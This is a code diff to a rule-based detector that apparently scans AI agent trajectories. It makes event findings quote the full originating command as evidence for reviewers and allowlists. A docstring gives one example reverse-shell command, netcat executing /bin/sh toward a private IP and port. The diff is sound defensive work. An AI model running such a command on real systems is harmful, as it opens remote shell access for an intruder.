@@ -125,9 +125,50 @@ class RuleDetector:
         for item in items:
             found = self.engine.match(item.segments, item.trajectory.request)
             if item.events is not None and self.events.rules:
-                found.extend(self.events.match(item.events.events, item.trajectory.request))
+                found.extend(_command_evidence(self.events.match(item.events.events, item.trajectory.request),
+                                               item))
             out.append(found)
         return out
+
+
+#: Longest evidence an event finding quotes from the command that caused it.
+EVENT_EVIDENCE_CHARS = 480
+
+
+def _command_evidence(findings: list[Finding], item: Prepared) -> list[Finding]:
+    """Event findings quote the command they came from, as written in the record (the outermost
+    process of the same text: `nc -e /bin/sh 10.0.0.5 4444`, not `/bin/sh`), so the allowlist,
+    reviewers and the report see the targets and the words of the action. The finding's span
+    stays the event's; decoded or flow-derived events keep the matcher's rendering."""
+    if not findings or item.events is None:
+        return findings
+    texts = {(seg.message_index, seg.field): seg for seg in item.trajectory.segments if not seg.decoded_from}
+    by_span = {}
+    events = item.events.events
+    for i, e in enumerate(events):
+        by_span.setdefault((e.source.message_index, e.source.field, e.source.start, e.source.end), i)
+    out = []
+    for f in findings:
+        i = by_span.get((f.message_index, f.field, f.start, f.end))
+        seg = texts.get((f.message_index, f.field))
+        if i is None or seg is None or f.decoded_from:
+            out.append(f)
+            continue
+        root = events[i]
+        seen = 0
+        while root.parent is not None and 0 <= root.parent < len(events) and seen < 16:
+            parent = events[root.parent]
+            if parent.source.message_index != f.message_index or parent.source.field != f.field \
+                    or parent.source.decoded_from:
+                break
+            root, seen = parent, seen + 1
+        a, z = root.source.start - seg.start, root.source.end - seg.start
+        quote = seg.text[max(0, a):max(0, z)] if 0 <= a < z <= len(seg.text) else ""
+        if quote.strip():
+            out.append(replace(f, evidence=quote[:EVENT_EVIDENCE_CHARS]))
+        else:
+            out.append(f)
+    return out
 
 
 def record_id(record: Any, source: str, line: int) -> str:
